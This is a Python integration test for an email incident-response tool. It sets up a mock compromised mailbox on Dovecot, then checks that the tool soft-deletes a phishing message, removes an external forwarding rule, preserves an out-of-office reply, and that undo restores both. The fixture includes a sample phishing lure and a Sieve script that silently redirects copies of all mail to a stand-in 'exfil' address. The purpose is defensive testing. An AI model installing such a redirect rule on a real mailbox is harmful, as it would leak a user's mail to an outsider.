"""The IMAP email system with ManageSieve as its forwarding delegate, on one real Dovecot.

A compromised user: a phishing message in the inbox, an external redirect and an
out-of-office reply. The product's two email actions on that mailbox — soft delete and turn
off external forwarding — go through one :class:`ImapEmailSystem`; undo puts both back, and
the vacation rule is never touched.
"""

from __future__ import annotations

import uuid
from email.message import EmailMessage
from pathlib import Path

import pytest

from autoir.connectors.imap import ImapEmailSystem, ImapSettings
from autoir.connectors.sieve.forwarding import ManageSieveForwarding, MasterUser
from autoir.connectors.sieve.managesieve import ManageSieveSession
from autoir.connectors.sieve.rules import OutOfOffice
from autoir.ports.remediation import EmailOperation, MessageRef, MessageStatus
from tests.support.dovecot import DovecotServer

pytestmark = [pytest.mark.dovecot, pytest.mark.integration]

SCRIPT = (
    'require ["copy", "vacation"];\r\n'
    "# rule:[Forward]\r\n"
    "if true\r\n"
    "{\r\n"
    '\tredirect :copy "exfil@mailbox.test";\r\n'
    "}\r\n"
    "# rule:[Away]\r\n"
    "if true\r\n"
    "{\r\n"
    '\tvacation :days 3 :subject "Away" "Back on Monday.";\r\n'
    "}\r\n"
)


def test_soft_delete_and_forwarding_off_then_undo_both(
    dovecot_server: DovecotServer, tmp_path: Path
) -> None:
    server = dovecot_server
    mailbox = f"u{uuid.uuid4().hex[:10]}@contoso.com"
    server.add_user(mailbox)
    message = EmailMessage()
    message["From"] = "it-support@contoso-helpdesk.test"
    message["To"] = mailbox
    message["Subject"] = "Your password expires today"
    message["Message-ID"] = f"<{uuid.uuid4().hex}@contoso-helpdesk.test>"
    message.set_content("Click here.\n")
    server.deliver(mailbox, "INBOX", message.as_bytes())
    with ManageSieveSession(server.host, server.sieve_port) as session:
        session.open(*server.master_login(mailbox))
        session.putscript("roundcube", SCRIPT)
        session.setactive("roundcube")
    forwarding = ManageSieveForwarding(
        server.host,
        server.sieve_port,
        credentials=MasterUser(server.master_user, server.master_password),
        state_path=tmp_path / "sieve-state.json",
    )
    system = ImapEmailSystem(
        ImapSettings(
            host=server.host,
            port=server.imap_port,
            security="plain",
            master_user=server.master_user,
            master_password=server.master_password,
            store_mailbox=server.store_mailbox,
        ),
        tmp_path / "imap-state",
        forwarding=forwarding,
    )
    ref = MessageRef(mailbox, internet_message_id=message["Message-ID"])

    [deleted] = system.apply("act-delete", EmailOperation.SOFT_DELETE, [ref])
    change = system.turn_off_external_forwarding("act-forward", mailbox, ["contoso.com"])

    assert deleted.status is MessageStatus.DONE
    assert server.folder_of(mailbox, message["Message-ID"]) == "Trash"
    assert change.removed == ("exfil@mailbox.test",)
    assert forwarding.external_forwarding(mailbox, ["contoso.com"]) == []
    assert forwarding.out_of_office(mailbox) == OutOfOffice(active=True, subject="Away", days=3)

    back = MessageRef(mailbox, internet_message_id=message["Message-ID"], restore_to="Inbox")
    system.apply("undo-delete", EmailOperation.MOVE_BACK, [back])
    system.restore_forwarding("undo-forward", change)

    assert server.folder_of(mailbox, message["Message-ID"]) == "INBOX"
    with ManageSieveSession(server.host, server.sieve_port) as session:
        session.open(*server.master_login(mailbox))
        assert session.getscript("roundcube") == SCRIPT
        assert session.listscripts().active == "roundcube"
